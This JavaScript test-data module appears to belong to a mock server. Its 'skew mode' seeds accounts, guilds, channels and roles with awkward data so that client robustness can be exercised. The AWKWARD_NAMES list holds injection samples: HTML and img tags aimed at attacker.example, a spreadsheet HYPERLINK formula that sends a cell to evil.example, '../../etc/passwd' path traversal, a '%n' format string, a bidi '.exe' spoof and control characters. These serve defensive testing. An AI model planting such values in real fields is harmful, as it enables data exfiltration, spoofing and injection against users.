// Skew mode (--skew, or {"skew": true} on /control/faults): the data of a
// newer server that differs from the contract in legal but awkward ways.
// Everything is a deterministic function of the seed and the account count,
// layered over the default data (seed.mjs) of the same seed:
//
//   - about 1 account in 8 has a real RUMBLE row (6 rows instead of 5);
//   - about 1 connected row in 100 is SUSPENDED (at least 2);
//   - about 1 TEXT/FORUM channel in 5 is a MEDIA channel;
//   - about 1% of the accounts (at least 3 with 4 accounts or more) have an
//     upper-case ID; IDs are opaque and case-sensitive;
//   - awkward names (AWKWARD_NAMES) on a handful of accounts, guilds,
//     channels and roles; every awkward account has an ACTIVE Twitch row and
//     at least one guild.
//
// acme_live (the first generated account) is never touched.

import { PLATFORMS, mulberry32, hash32, int, foldText } from './seed.mjs';

export const RUMBLE = PLATFORMS.length; // platform index of RUMBLE in a row's `p`
export const ROW_PLATFORMS = [...PLATFORMS, 'RUMBLE'];

const LONG_NAME = `L${'o'.repeat(9998)}g`; // 10,000 characters, no space to break at

/**
 * Names a client must show as text, never interpret. In priority order: with
 * few accounts (or guilds) only the first ones are used. accountName and the
 * other names are String! in the schema, so "no name" is the empty string.
 */
export const AWKWARD_NAMES = [
  { kind: 'html-b', name: '<b>Guild</b>' },
  { kind: 'empty', name: '' },
  { kind: 'html-font', name: 'Test</b><br><font color=green>(sandbox bot only)</font>' },
  { kind: 'bidi-rlo', name: 'stream\u202Egnp.exe' },
  { kind: 'control-soh', name: '\u0001soh_start' },
  { kind: 'html-img', name: '<img src="//attacker.example/share/a.png">' },
  { kind: 'formula-hyperlink', name: '=HYPERLINK("https://evil.example/?"&B2,"x")' },
  { kind: 'long', name: LONG_NAME },
  { kind: 'md-link', name: '[click](https://evil.example)' },
  { kind: 'control-ansi', name: '\u001b[31mRedAlert\u001b[0m' },
  { kind: 'bidi-isolates', name: '\u2066isolate\u2069 \u2067rtl\u2069 \u2068first-strong\u2069 end' },
  { kind: 'path', name: '../../etc/passwd' },
  { kind: 'format-string', name: '%s%s%n' },
  { kind: 'control-bel', name: 'Bell\u0007Streams' },
  { kind: 'control-nul', name: 'nul\u0000byte' },
  { kind: 'formula-plus', name: '+1' },
  { kind: 'formula-minus', name: '-2' },
  { kind: 'formula-at', name: '@SUM(A1)' },
  { kind: 'md-image', name: '![x](https://evil.example/p.png)' },
  { kind: 'md-mention', name: '<@everyone>' },
  { kind: 'md-emphasis', name: '*bold* _it_ | pipe' },
];

const P = PLATFORMS.length;

/** A seeded Fisher-Yates shuffle of [from, to). */
function shuffled(rng, from, to) {
  const a = [];
  for (let i = from; i < to; i++) a.push(i);
  for (let i = a.length - 1; i > 0; i--) {
    const j = Math.floor(rng() * (i + 1));
    [a[i], a[j]] = [a[j], a[i]];
  }
  return a;
}

/** The skew layer of one store. Built before the store sorts its accounts. */
export class SkewData {
  constructor(seed) {
    this.seed = seed;
    this.rng = mulberry32(hash32(`${seed}:skew`));
    this.rumble = new Map(); // account gen -> {connected, enabled, hbAgoMs (NaN = none), updatedAgoMs}
    this.suspended = new Set(); // `${gen}/${p}` of SUSPENDED rows
    this.awkwardAccounts = []; // {gen, kind, name}; ids filled in by finish()
    this.upperGens = [];
    this.upperIds = []; // upperGens' IDs; the first has ACTIVE Twitch and RUMBLE rows as seeded
    this.protectedIds = new Set(); // accounts churn never removes nor anchors at
    this.awkwardGuilds = new Map(); // guildId -> {kind, name}
    this.detailPlans = new Map(); // guildId -> {channels: [{kind,name}], roles: [{kind,name}]}
    this.hostileGuildId = null;
    this.mediaGuildId = null;
    this.churnRng = mulberry32(hash32(`${seed}:churn`));
    this.churnSerial = 0;
    this.churnInserted = 0;
    this.churnRemoved = 0;
  }

  /**
   * Rewrites freshly generated accounts (generation order, see
   * generateAccounts) in place: names, upper-case IDs, forced rows; plans the
   * RUMBLE and SUSPENDED rows.
   */
  prepareAccounts({ accounts, flags, hbAgoMs, updatedAgoMs }) {
    const count = accounts.length;
    const order = shuffled(this.rng, 1, count); // never gen 0 (acme_live)
    const activeTwitch = (gen) => { flags[gen * P] = 3; hbAgoMs[gen * P] = int(this.rng, 1_000, 60_000); };
    const forced = new Set(); // `${gen}/${p}` that must stay as forced (never SUSPENDED)

    // Awkward names: each has an ACTIVE Twitch bot and a guild.
    const nAwkward = Math.min(AWKWARD_NAMES.length, order.length);
    for (let k = 0; k < nAwkward; k++) {
      const gen = order[k];
      const { kind, name } = AWKWARD_NAMES[k];
      setName(accounts[gen], name);
      activeTwitch(gen);
      forced.add(`${gen}/0`);
      if (accounts[gen].guildCount === 0) accounts[gen].guildCount = 1;
      this.awkwardAccounts.push({ gen, kind, name });
    }

    // Upper-case IDs: about 1%, at least 3; taken after the awkward ones while
    // there are accounts left, then among them.
    const nUpper = Math.min(order.length, Math.max(3, Math.round(count / 100)));
    for (let k = 0; k < nUpper; k++) {
      const gen = order[(nAwkward + k) % order.length];
      const acc = accounts[gen];
      acc.id = acc.id.toUpperCase();
      acc.search = `${foldText(acc.name)}\u0000${acc.id.toLowerCase()}`;
      this.upperGens.push(gen);
    }
    // The first upper-case account is ACTIVE on Twitch and on RUMBLE, so both
    // oddities meet in one row a test can toggle.
    if (this.upperGens.length) {
      activeTwitch(this.upperGens[0]);
      forced.add(`${this.upperGens[0]}/0`);
    }

    // RUMBLE rows: about one account in eight.
    for (let gen = 1; gen < count; gen++) {
      const forcedActive = gen === this.upperGens[0];
      if (!forcedActive && hash32(`${this.seed}:rumble:${gen}`) % 8 !== 0) continue;
      const connected = forcedActive || this.rng() < 0.6;
      const enabled = forcedActive || this.rng() >= 0.15;
      this.rumble.set(gen, { connected, enabled,
        hbAgoMs: connected ? int(this.rng, 1_000, 100_000) : NaN, updatedAgoMs: int(this.rng, 100_000, 30 * 86400_000) });
      if (forcedActive) forced.add(`${gen}/${RUMBLE}`);
    }

    // SUSPENDED: about one connected row in a hundred, at least two.
    const connectedAt = (gen, p) => (p === RUMBLE ? this.rumble.get(gen)?.connected : (flags[gen * P + p] & 1) === 1);
    const suspend = (gen, p) => {
      if (gen === 0 || forced.has(`${gen}/${p}`) || !connectedAt(gen, p)) return false;
      this.suspended.add(`${gen}/${p}`);
      // A suspended bot processes nothing: its last heartbeat is hours old.
      const stale = int(this.rng, 3 * 3600_000, 3 * 86400_000);
      if (p === RUMBLE) this.rumble.get(gen).hbAgoMs = stale; else hbAgoMs[gen * P + p] = stale;
      return true;
    };
    for (let gen = 1; gen < count; gen++) {
      for (let p = 0; p <= RUMBLE; p++) if (hash32(`${this.seed}:suspended:${gen}:${p}`) % 100 === 0) suspend(gen, p);
    }
    for (let k = order.length - 1; k >= 0 && this.suspended.size < 2; k--) {
      for (let p = 0; p < P && this.suspended.size < 2; p++) if (!this.suspended.has(`${order[k]}/${p}`)) suspend(order[k], p);
    }
    this.accountsByGen = accounts;
  }

  /** After the store built its accounts: the set churn must leave alone. */
  finish() {
    const accounts = this.accountsByGen;
    this.protectedIds.add(accounts[0].id);
    for (const a of this.awkwardAccounts) { a.accountId = accounts[a.gen].id; this.protectedIds.add(a.accountId); }
    this.upperIds = this.upperGens.map((gen) => accounts[gen].id);
    for (const id of this.upperIds) this.protectedIds.add(id);
    for (const gen of this.rumble.keys()) this.protectedIds.add(accounts[gen].id);
    for (const key of this.suspended) this.protectedIds.add(accounts[Number(key.split('/')[0])].id);
    this.accountsByGen = null;
  }

  isSuspended(gen, p) { return this.suspended.has(`${gen}/${p}`); }

  /** Renames a handful of guilds (generateGuilds output) and plans awkward channel and role names. */
  prepareGuilds(guilds) {
    const awkwardIds = new Set(this.awkwardAccounts.map((a) => a.accountId));
    const hostile = guilds.find((g) => awkwardIds.has(g.accountId));
    this.hostileGuildId = hostile?.guildId ?? null;
    this.mediaGuildId = this.hostileGuildId ?? guilds[0]?.guildId ?? null;
    const order = shuffled(this.rng, 0, guilds.length);
    const n = Math.min(AWKWARD_NAMES.length, guilds.length);
    for (let k = 0; k < n; k++) {
      const g = guilds[order[k]];
      const { kind, name } = AWKWARD_NAMES[k];
      g.name = name;
      this.awkwardGuilds.set(g.guildId, { kind, name });
      // The k-th awkward guild gets names k and k+1 on channels, k on a role.
      const at = (i) => AWKWARD_NAMES[i % AWKWARD_NAMES.length];
      this.detailPlans.set(g.guildId, { channels: [at(k), at(k + 1)], roles: [at(k)] });
    }
  }

  /**
   * Newer-server details of a guild (generateGuildDetails output, changed in
   * place): MEDIA channels and the planned awkward names. The MEDIA showcase
   * guild has at least one MEDIA channel the bot may post in and one it may not.
   */
  decorateDetails(guildId, details) {
    const { channels, roles } = details;
    let postableText = channels.filter((c) => c.type === 'TEXT' && c.botCanPost).length;
    for (const c of channels) {
      if ((c.type !== 'TEXT' && c.type !== 'FORUM') || hash32(`${this.seed}:media:${c.id}`) % 5 !== 0) continue;
      if (c.type === 'TEXT' && c.botCanPost) {
        if (postableText <= 1) continue; // keep one postable TEXT channel
        postableText--;
      }
      c.type = 'MEDIA';
    }
    if (guildId === this.mediaGuildId) {
      const nextId = () => (channels.reduce((m, c) => (BigInt(c.id) > m ? BigInt(c.id) : m), BigInt(guildId)) + 1n).toString();
      const top = channels.filter((c) => c.parentId === null).length;
      if (!channels.some((c) => c.type === 'MEDIA' && c.botCanPost)) {
        channels.push({ id: nextId(), name: 'media-showcase', type: 'MEDIA', parentId: null, position: top, botCanPost: true });
      }
      if (!channels.some((c) => c.type === 'MEDIA' && !c.botCanPost)) {
        channels.push({ id: nextId(), name: 'media-archive', type: 'MEDIA', parentId: null, position: top + 1, botCanPost: false });
      }
    }
    const plan = this.detailPlans.get(guildId);
    if (plan) {
      const named = channels.filter((c) => c.type !== 'CATEGORY');
      plan.channels.forEach((a, i) => { if (named[i]) named[i].name = a.name; });
      plan.roles.forEach((a, i) => { if (roles[i + 1]) roles[i + 1].name = a.name; }); // never @everyone
    }
    return details;
  }

  kindOf(name) { return AWKWARD_NAMES.find((a) => a.name === name)?.kind ?? null; }
}

function setName(acc, name) {
  acc.name = name;
  acc.lower = name.toLowerCase();
  acc.search = `${foldText(name)}\u0000${acc.id.toLowerCase()}`;
}

/** A new account created by paging churn: named after its anchor so it sorts right behind it. */
export function churnAccount(skew, anchor, makeId) {
  const serial = ++skew.churnSerial;
  const name = `${anchor.name}_n${serial}`;
  const id = makeId(skew.churnRng);
  return { id, name, lower: name.toLowerCase(), search: `${foldText(name)}\u0000${id}`, guildCount: 0, gen: -serial, rows: null };
}
